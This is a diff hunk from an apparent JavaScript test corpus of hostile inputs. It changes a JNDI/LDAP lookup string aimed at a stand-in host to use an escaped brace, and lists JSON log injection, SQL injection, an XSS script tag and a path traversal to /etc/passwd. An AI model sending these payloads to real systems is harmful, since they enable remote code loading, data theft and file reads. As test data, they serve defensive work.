@@ -63,7 +63,7 @@ const CORPUS = [
   '"},{"level":60,"msg":"injected"}',
   '\\',
   '\\"',
-  '${jndi:ldap://example.invalid/a}',
+  '$\u007bjndi:ldap://example.invalid/a}',
   "' OR 1=1 --",
   '<script>alert(1)</script>',
   '../../etc/passwd',
